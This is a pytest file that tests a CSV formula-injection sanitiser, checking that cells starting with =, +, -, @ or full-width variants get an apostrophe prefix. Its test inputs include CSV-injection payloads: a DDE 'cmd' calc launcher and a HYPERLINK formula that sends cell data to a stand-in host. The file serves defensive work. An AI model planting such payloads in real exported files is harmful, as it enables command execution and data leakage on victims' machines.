"""Formula-safe CSV: text a spreadsheet would evaluate is written as text, everything else as is."""

from __future__ import annotations

import csv
import io

import pytest

from composer.support.csv_safe import safe_cell, write_csv, write_rows

#: (typed by someone, what the cell must hold)
DANGEROUS = [
    ("=1+1", "'=1+1"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\rX", "'\rX"),
    ("   =1+1", "'   =1+1"),
    ("\n@SUM(1)", "'\n@SUM(1)"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("\uff0b1", "'\uff0b1"),
    ("\uff0d1", "'\uff0d1"),
    ("\uff20SUM(1)", "'\uff20SUM(1)"),
]

SAFE = [
    "Ana Lopez",
    "ana@example.com",
    "1-2 May",
    "a = b",
    "'already quoted",
    "",
    "   ",
    "Line one\nline two",
]


@pytest.mark.parametrize(("typed", "written"), DANGEROUS)
def test_text_that_starts_a_formula_is_prefixed(typed: str, written: str) -> None:
    assert safe_cell(typed) == written


@pytest.mark.parametrize("typed", SAFE)
def test_ordinary_text_is_untouched(typed: str) -> None:
    assert safe_cell(typed) == typed


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert safe_cell(-5) == -5
    assert safe_cell(2.5) == 2.5
    assert safe_cell(None) == ""
    # Booleans and other objects are text.
    assert safe_cell(True) == "True"


def test_document_reads_back_with_prefixes_and_embedded_line_breaks() -> None:
    text = write_csv(
        [
            [1, "=cmd|' /C calc'!A0", 'He said "stop", then left.\r\nSecond line'],
            [-7, "@SUM(1)", None],
        ],
        header=["n", "name", "note"],
    )
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [
        ["n", "name", "note"],
        ["1", "'=cmd|' /C calc'!A0", 'He said "stop", then left.\r\nSecond line'],
        ["-7", "'@SUM(1)", ""],
    ]
    # RFC 4180 row endings; numbers written bare, text quoted.
    assert text.endswith("\r\n")
    assert text.split("\r\n")[-2] == '-7,"\'@SUM(1)",""'


def test_header_is_made_safe_too_and_rows_stream() -> None:
    stream = io.StringIO()
    count = write_rows(stream, ([n, f"-{n}"] for n in range(3)), header=["n", "=evil"])
    assert count == 3
    rows = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert rows[0] == ["n", "'=evil"]
    assert rows[1:] == [["0", "'-0"], ["1", "'-1"], ["2", "'-2"]]
